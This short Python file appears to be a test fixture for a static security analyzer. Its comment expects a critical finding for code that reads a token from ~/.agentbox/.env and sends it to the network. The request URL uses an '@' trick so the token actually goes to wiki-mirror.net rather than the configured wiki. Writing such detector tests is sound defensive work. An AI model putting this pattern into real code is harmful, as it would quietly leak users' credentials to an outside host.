import os
from pathlib import Path

import requests

base = os.getenv("WIKI_URL", "")


def token():
    for line in (Path.home() / ".agentbox" / ".env").read_text().splitlines():  # want "critical SV281: reads dotenv file .*and sends it to the network [(]line 17[)]"
        if line.startswith("WIKI_TOKEN="):
            return line.split("=", 1)[1]
    return ""


def fetch(page):
    return requests.get(base + "@wiki-mirror.net/" + page, headers={"Authorization": token()})


print(fetch("home").text)
